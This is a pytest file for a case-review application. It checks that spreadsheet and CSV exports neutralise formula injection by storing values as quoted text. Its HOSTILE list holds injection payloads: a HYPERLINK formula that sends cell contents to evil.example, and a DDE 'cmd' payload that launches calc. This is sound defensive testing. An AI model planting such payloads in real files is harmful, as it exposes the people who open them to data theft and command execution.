"""Every workbook the program writes stores user and imported text as text: a registry
cell, a note or a wording beginning with "=" (HYPERLINK, DDE) never becomes a formula."""

from __future__ import annotations

import io
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from openpyxl import Workbook
from sqlalchemy import select

from casereview.exports.pdf_common import PdfOptions
from casereview.exports.xlsx_safe import append_safe, csv_safe, is_formula_like, print_setup
from casereview.intake.registry import RowIssue, RowResult, write_rejects_xlsx
from casereview.services.app import Services
from casereview.stats import StatsFilter
from casereview.storage.models import Deficiency, ItemResult

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def formula_cells(data: bytes) -> list[str]:
    """Every formula in the workbook, read from the raw sheet XML (not through openpyxl)."""
    found: list[str] = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                if "<f>" in xml or "<f " in xml:
                    found.append(name)
    return found


@pytest.mark.parametrize("write_only", [False, True])
def test_hostile_text_is_stored_as_text(write_only: bool) -> None:
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("t") if write_only else wb.active
    assert ws is not None
    append_safe(ws, ["序号", "内容"])
    for n, text in enumerate(HOSTILE, start=1):
        append_safe(ws, [n, text])
    append_safe(ws, [99, "控制\x01字符\x1f"])
    buf = io.BytesIO()
    wb.save(buf)
    assert formula_cells(buf.getvalue()) == []
    sheet = openpyxl.load_workbook(buf)["t" if write_only else "Sheet"]
    rows = list(sheet.iter_rows(min_row=2))
    for (number, cell), text in zip(rows, HOSTILE, strict=False):
        assert number.value == number.row - 1 and number.data_type == "n"
        assert cell.data_type == "s" and cell.value == text.replace("\r", "\r")
        assert cell.quotePrefix, text
    assert rows[-1][1].value == "控制字符"


def test_csv_fields_get_an_apostrophe() -> None:
    assert [csv_safe(t) for t in HOSTILE[:3]] == ["'" + t for t in HOSTILE[:3]]
    assert csv_safe("案号（2025）1号") == "案号（2025）1号" and csv_safe(12) == 12
    assert not is_formula_like("罚款 -200 元")


def test_print_setup_on_write_only_sheet() -> None:
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("宽表")
    print_setup(ws, landscape=True)
    append_safe(ws, ["a", "b"])
    buf = io.BytesIO()
    wb.save(buf)
    sheet = openpyxl.load_workbook(buf)["宽表"]
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.fitToWidth == 1
    assert sheet.freeze_panes == "A2" and sheet.print_title_rows == "$1:$1"


def _poison(services: Services) -> None:
    with services.ctx.db.session() as session:
        for n, r in enumerate(session.scalars(select(ItemResult).where(ItemResult.answer == "deduct"))):
            r.note = HOSTILE[n % len(HOSTILE)]
        for n, d in enumerate(session.scalars(select(Deficiency))):
            d.wording = HOSTILE[n % len(HOSTILE)]


def test_statistics_workbook_and_register_have_no_formula(demo_services: Services, tmp_path: Path) -> None:
    _poison(demo_services)
    buf = io.BytesIO()
    demo_services.exports.export_stats_xlsx(StatsFilter(), buf, options=PdfOptions(fixed_date=date(2026, 1, 5)))
    assert formula_cells(buf.getvalue()) == []
    items = openpyxl.load_workbook(buf)["扣分项统计"]
    examples = [row[8].value or "" for row in items.iter_rows(min_row=2)]
    assert any("=HYPERLINK(" in e for e in examples)

    path = tmp_path / "register.xlsx"
    demo_services.deficiencies.export_xlsx(path)
    data = path.read_bytes()
    assert formula_cells(data) == []
    ws = openpyxl.load_workbook(path)["问题清单"]
    # every column, not one letter: the register gains columns (实际扣分 moved the wordings)
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert HOSTILE[0] in [c.value for c in cells]
    hyper = next(c for c in cells if c.value == HOSTILE[0])
    assert hyper.data_type == "s" and hyper.quotePrefix


def test_rejects_workbook_has_no_formula(tmp_path: Path) -> None:
    issue = RowIssue(row=2, column_letter="A", header="案号", field="case_no", value=HOSTILE[0], reason="=原因")
    rows = [RowResult(row=2, record=None, issues=[issue], warnings=[], values=[HOSTILE[0], HOSTILE[1]])]
    path = tmp_path / "rejects.xlsx"
    assert write_rejects_xlsx(rows, path, ["案号", "当事人"]) == 1
    assert formula_cells(path.read_bytes()) == []
    ws = openpyxl.load_workbook(path).active
    assert ws is not None
    assert [c.value for c in ws[2]][:2] == HOSTILE[:2]
